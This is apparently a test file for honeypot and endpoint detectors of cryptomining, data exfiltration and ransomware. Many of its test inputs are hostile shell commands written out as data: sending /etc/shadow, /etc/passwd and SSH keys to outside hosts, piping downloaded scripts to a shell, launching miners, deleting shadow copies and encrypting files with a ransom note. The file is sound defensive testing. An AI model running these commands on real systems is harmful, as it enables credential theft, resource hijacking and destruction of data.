import { describe, expect, it } from 'vitest';
import { eventFactory, iso, NOW, only } from '../../../tests/fixtures/detection-events.ts';
import { DEFAULT_DETECTION_SETTINGS as S } from '../settings.ts';
import type { Detector } from '../types.ts';
import { cryptomining } from './cryptomining.ts';
import { exfiltration } from './exfiltration.ts';
import { ransomware } from './ransomware.ts';

const f = eventFactory();
const onCowrie = (detector: Detector, ...inputs: string[]) =>
  detector.evaluate(
    only(
      inputs.map((input, i) => f.cowrie('cowrie.command.input', i, { input })),
      detector.prefilter,
    ),
    S,
    NOW,
  );
const fires = (detector: Detector, input: string) => onCowrie(detector, input).length === 1;

describe('cryptomining', () => {
  it.each([
    './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4AdUndXHHZ -p x',
    'nohup ./minerd -a cryptonight -o stratum+tcp://xmr.pool.example:5555 &',
    '/tmp/.x/kdevtmpfsi',
    'curl -s http://203.0.113.8/xmr.sh | bash; ./x --donate-level 1',
    './cpuminer-multi -a sha256d -o 203.0.113.9:3333',
    'screen -dmS m ./sys -o 198.51.100.3:14444 --algo=rx/0',
  ])('fires on %s', (input) => {
    expect(fires(cryptomining, input)).toBe(true);
  });

  it.each(['ps aux | grep miner', 'cat /etc/passwd', 'apt-get install mining-docs', 'ls /opt/minerdump', 'ssh -o StrictHostKeyChecking=no host'])(
    'stays silent on %s',
    (input) => {
      expect(fires(cryptomining, input)).toBe(false);
    },
  );

  it('reports the attacker on a honeypot and the host on an endpoint, and catches DNS lookups of pools', () => {
    const [d] = onCowrie(cryptomining, './xmrig -o stratum+tcp://pool.minexmr.com:4444');
    expect(d).toMatchObject({ category: 'cryptomining', severity: 'high', mitre: ['T1496'], entity: { type: 'src_ip', value: '198.51.100.7' } });
    const endpoint = f.agent({
      event_type: 'process_start',
      timestamp: iso(0),
      hostname: 'web-01',
      details: { command_line: '/usr/bin/xmrig -c /tmp/c.json' },
    });
    const [e] = cryptomining.evaluate(only([endpoint], cryptomining.prefilter), S, NOW);
    expect(e?.entity).toEqual({ type: 'host', value: 'web-01' });
    expect(e?.fingerprintKey).toBe('cryptomining|host:web-01');
    const dns = f.zeek({
      _path: 'dns',
      ts: iso(0),
      uid: 'D1',
      'id.orig_h': '10.0.0.5',
      'id.orig_p': 5353,
      'id.resp_h': '10.0.0.1',
      'id.resp_p': 53,
      query: 'xmr-eu1.nanopool.org',
    });
    expect(cryptomining.evaluate(only([dns], cryptomining.prefilter), S, NOW)[0]?.entity).toEqual({ type: 'src_ip', value: '10.0.0.5' });
  });
});

describe('exfiltration', () => {
  it.each([
    'curl -X POST -d @/etc/passwd http://203.0.113.5/c',
    'curl -F "f=@/root/.ssh/id_rsa" https://203.0.113.5/up',
    'curl -T /var/backups/db.sql ftp://203.0.113.5/',
    'wget --post-file=/etc/shadow http://203.0.113.5/',
    'scp -P 2222 /etc/passwd root@203.0.113.5:/tmp/',
    'tar czf - /home | nc 203.0.113.5 9001',
    'cat /etc/shadow | base64 -w0 | curl -d @- http://203.0.113.5/',
    'cat /etc/passwd > /dev/tcp/203.0.113.5/8080',
    'nc 203.0.113.5 4444 < /etc/passwd',
    "powershell -c (New-Object Net.WebClient).UploadFile('http://203.0.113.5/u','C:\\data.zip')",
  ])('fires on %s', (input) => {
    expect(fires(exfiltration, input)).toBe(true);
  });

  it.each([
    'curl -d \'{"a":1}\' https://api.example/v1',
    'curl -o /tmp/x http://203.0.113.5/x && chmod +x /tmp/x',
    'scp root@203.0.113.5:/etc/passwd .',
    'echo aGVsbG8= | base64 -d | sh',
    'curl http://203.0.113.5/install.sh | sh',
    'cat /etc/passwd',
    'cat notes.txt | grep todo',
  ])('stays silent on %s', (input) => {
    expect(fires(exfiltration, input)).toBe(false);
  });

  it('is critical when a credential file leaves', () => {
    expect(onCowrie(exfiltration, 'wget --post-file=/etc/shadow http://203.0.113.5/')[0]?.severity).toBe('critical');
    expect(onCowrie(exfiltration, 'curl -T backup.tgz ftp://203.0.113.5/')[0]?.severity).toBe('high');
  });
});

describe('ransomware', () => {
  it.each([
    'vssadmin.exe Delete Shadows /All /Quiet',
    'wmic shadowcopy delete',
    'wbadmin delete catalog -quiet',
    'bcdedit /set {default} recoveryenabled No',
    'find / -type f -name "*.doc" -exec openssl enc -aes-256-cbc -salt -in {} -out {}.locked -k pw \\;',
    'for f in /home/*/*; do gpg --batch --yes -c --passphrase x "$f"; done',
    'echo "YOUR FILES HAVE BEEN ENCRYPTED" > /root/HOW_TO_DECRYPT.txt',
    'Get-WmiObject Win32_ShadowCopy | Remove-WmiObject',
  ])('fires on %s', (input) => {
    expect(fires(ransomware, input)).toBe(true);
  });

  it.each([
    'vssadmin list shadows',
    'cat README.txt',
    'openssl rand -hex 16',
    'echo hello > readme.txt',
    'mv report.txt report.old',
    'find . -name "*.log" -delete',
  ])('stays silent on %s', (input) => {
    expect(fires(ransomware, input)).toBe(false);
  });

  it('is critical on shadow copy deletion or two distinct patterns, medium on one openssl enc', () => {
    expect(onCowrie(ransomware, 'vssadmin delete shadows /all')[0]?.severity).toBe('critical');
    expect(onCowrie(ransomware, 'openssl enc -aes-256-cbc -in a.db -out a.db.enc')[0]?.severity).toBe('medium');
    const both = onCowrie(ransomware, 'openssl enc -aes-256-cbc -in a.db -out a.db.enc', 'bcdedit /set {default} bootstatuspolicy ignoreallfailures');
    expect(both).toHaveLength(1);
    expect(both[0]).toMatchObject({ severity: 'critical', mitre: ['T1486', 'T1490'] });
  });
});

describe('command patterns rewritten without lookahead keep their detections', () => {
  it.each([
    [exfiltration, 'tar cz /etc | base64 -w0 | curl -d @- http://203.0.113.5/'],
    [exfiltration, 'base64 --wrap=0 secrets.tgz | nc 203.0.113.5 9001'],
    [exfiltration, 'echo x | base64 -d > a; base64 a | curl -T - http://203.0.113.5/'],
    [exfiltration, 'aws s3 cp ./dump.sql s3://attacker-bucket/'],
    [exfiltration, 'rsync -az /var/www root@203.0.113.5:/loot\nexit'],
    [exfiltration, 'curl --data-binary @db.sql http://203.0.113.5/'],
  ] as const)('fires on %#', (detector, input) => {
    expect(fires(detector, input)).toBe(true);
  });

  it.each([
    [exfiltration, 'base64 --decode payload.b64 | nc -l 9001'],
    [exfiltration, 'base64 -D x | curl -d @- http://203.0.113.5/'],
    [exfiltration, 'aws s3 cp s3://a/x s3://b/x'],
    [exfiltration, 'rsync -az --delete root@203.0.113.5:/src/ /dst/'],
    [exfiltration, 'curl -d @- http://203.0.113.5/ < body.json'],
  ] as const)('stays silent on %#', (detector, input) => {
    expect(fires(detector, input)).toBe(false);
  });
});
